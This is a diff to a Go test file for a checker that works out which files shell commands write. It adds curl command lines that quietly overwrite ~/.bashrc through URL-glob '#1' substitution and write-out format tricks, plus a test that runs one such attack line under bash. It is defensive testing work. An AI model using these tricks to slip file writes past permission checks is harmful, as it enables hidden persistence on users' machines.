@@ -1,6 +1,9 @@
 package builtin
 
-import "testing"
+import (
+	"os/exec"
+	"testing"
+)
 
 // innocentWrites are lines that write a file through a program's operand
 // or option rather than a redirection, which a user may well answer
@@ -12,6 +15,9 @@ var innocentWrites = []string{
 	"wget -O /tmp/a http://x.test/", "curl -sL http://x.test/", "wget http://x.test/a.tgz",
 	"printf x | sponge /tmp/a", "iconv -f utf8 -t ascii f", "patch -p1 < p.diff",
 	"sort -o {} f", "curl -o {}.bak http://x.test/", "find . -name '*.go'",
+	"curl -s 'http://x.test/{a,b}' -o '#1'", "curl -s 'http://x.test/[1-2]' -o '/tmp/#1'",
+	"curl -w '%{http_code}' http://x.test/", "curl -sw@- http://x.test/ <<< '%{http_code}'",
+	"curl --write-out=@fmt http://x.test/", "curl --expand-url http://x.test/ -o /tmp/a",
 }
 
 // TestShellKeysNameFilesProgramsWrite: a program that writes a file named
@@ -61,6 +67,12 @@ func TestShellKeysNameFilesProgramsWrite(t *testing.T) {
 		{"curl -c ~/.bashrc -D h.txt http://x.test/", []string{">h.txt", ">~/.bashrc", "curl"}},
 		{"curl -O http://x.test/.bashrc", nil},
 		{"curl -K evil.cfg http://x.test/", nil},
+		{"curl -s 'http://x.test/{.bashrc}' -o '#1'", nil},
+		{"curl -s 'http://x.test/[1-2]' -o '/tmp/#1' -o ~/.bashrc", nil},
+		{"curl -w '%output{~/.bashrc}x' http://x.test/", nil},
+		{"curl -sw@- http://x.test/ <<< '%output{~/.bashrc}x'", nil},
+		{"curl --write-out=@fmt http://x.test/", nil},
+		{"curl --expand-output ~/.bashrc http://x.test/", nil},
 		{"wget -O ~/.bashrc http://x.test/", []string{">~/.bashrc", "wget"}},
 		{"wget -P ~/.config/autostart http://x.test/a.desktop", []string{">~/.config/autostart", "wget"}},
 		{"wget -e output_document=x http://x.test/", nil},
@@ -104,6 +116,7 @@ func TestShellKeysOfProgramsWritingNoFileStayTheSame(t *testing.T) {
 		{"sort -t -o f", []string{"sort"}},
 		{"curl -H 'X: -o' http://x.test/", []string{"curl"}},
 		{"curl -s \"http://localhost:$PORT/health\"", []string{"curl"}},
+		{"curl -s -w '%{http_code}\\n' http://x.test/", []string{"curl"}},
 		// find's paths are no options
 		{"find . -name '*.txt' -exec sort {} +", []string{"find", "sort"}},
 	}
@@ -120,4 +133,13 @@ func TestShellKeysOfProgramsWritingNoFileStayTheSame(t *testing.T) {
 // named after the one found (pwned after pwn), not one named {}ed.
 func TestFoundFileWritesRunUnderBash(t *testing.T) {
 	checkRunsTouch(t, bashPath(t), ": > pwn; find . -name pwn -exec sort -o{}ed /dev/null \\;")
+}
+
+// TestCurlGlobWritesRunUnderBash: curl replaces #1 in -o's file with what
+// the URL's first glob matched, so -o 'pwn#1' writes pwned.
+func TestCurlGlobWritesRunUnderBash(t *testing.T) {
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("needs curl to run its attack line")
+	}
+	checkRunsTouch(t, bashPath(t), `: > ed; curl -s "file://$PWD/{ed}" -o 'pwn#1'`)
 }
